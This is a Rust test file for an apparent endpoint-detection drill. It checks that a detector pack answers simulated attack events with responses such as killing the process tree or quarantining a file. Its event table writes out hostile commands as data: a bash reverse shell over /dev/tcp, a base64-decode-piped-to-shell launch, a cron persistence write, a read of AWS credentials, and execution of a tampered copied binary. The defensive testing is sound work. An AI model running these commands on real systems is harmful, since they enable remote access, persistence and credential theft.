//! Owns: what `picket drill` plays, as events, and the answers that it waits for.
//! Never: the drill itself; that is `coordinator/cli/src/drill`.

use std::collections::BTreeSet;

use super::pack::detector;
use super::play;
use crate::pack;

/// Each act as the drill's steps perform it, and exactly the answers that the whole pack gives.
const ACTS: &[(&str, &[&str])] = &[
    (
        "launch: {exe: /usr/bin/dash, argv: [/bin/sh, -c, 'echo c2xlZXAgNjAK | base64 -d | sh; sleep 60', picket-drill-9-decode], parent: {exe: /usr/bin/picket}}",
        &["kill_tree"],
    ),
    (
        "launch: {exe: /usr/bin/bash, argv: [/bin/bash, -c, 'bash -i >& /dev/tcp/127.0.0.1/40123 0>&1', picket-drill-9-reverse-shell], parent: {exe: /usr/bin/picket}}",
        &["kill_tree"],
    ),
    (
        "connect: {to: 127.0.0.1, port: 40123, by: {exe: /usr/bin/bash, argv: [/bin/bash, -c, 'bash -i >& /dev/tcp/127.0.0.1/40123 0>&1']}}",
        &["kill_tree"],
    ),
    (
        "write: {path: /tmp/picket-drill-9/etc/cron.d/picket-drill-9-cron, mode: '0644', by: {exe: /usr/bin/dash, argv: [/bin/sh, -c, 'umask 022', picket-drill-9-cron], parent: {exe: /usr/bin/picket}}}",
        &["quarantine_file"],
    ),
    (
        "read: {path: /tmp/picket-drill-9/picket-drill-9-credential/.aws/credentials, by: {exe: /usr/bin/dash, argv: [/bin/sh, -c, 'while read -r line; do :; done < \"$1\"; sleep 60'], parent: {exe: /usr/bin/picket}}}",
        &["kill_tree"],
    ),
    (
        "launch: {exe: /tmp/picket-drill-9/picket-drill-9-copied/tool, argv: [/tmp/picket-drill-9/picket-drill-9-copied/tool, '60'], parent: {exe: /usr/bin/picket, parent: {exe: /srv/build/debug/deps/e2e-1, parent: {exe: /root/.cargo/bin/cargo-nextest}}}}",
        &["deny_execution", "kill_tree", "quarantine_file"],
    ),
    // What leads up to an act is no act: the scripts of the steps that are answered by file.
    (
        "launch: {exe: /usr/bin/dash, argv: [/bin/sh, -c, 'umask 022; printf x > \"$2\"', m, '# cron', /tmp/picket-drill-9/etc/cron.d/m], parent: {exe: /usr/bin/picket}}",
        &[],
    ),
    (
        "launch: {exe: /usr/bin/dash, argv: [/bin/sh, -c, 'cp /bin/sleep \"$1\" && printf m >> \"$1\" && chmod 755 \"$1\" && exec \"$1\" 60', m, /tmp/picket-drill-9/m/tool], parent: {exe: /usr/bin/picket}}",
        &[],
    ),
    ("create: {path: /tmp/picket-drill-9/etc/cron.d/picket-drill-9-cron, by: {exe: /usr/bin/dash}}", &[]),
];

#[test]
fn every_act_of_the_drill_has_its_answers() {
    for (act, wanted) in ACTS {
        let case = play::cases("drill", &format!("hits:\n  - {act}\n")).hits.remove(0);
        let hits = detector(&pack()).observe(&case.events[0]);
        let answers: BTreeSet<&str> = hits.iter().flat_map(|hit| &hit.rule.response).map(String::as_str).collect();
        assert_eq!(answers, wanted.iter().copied().collect(), "{act}");
    }
}
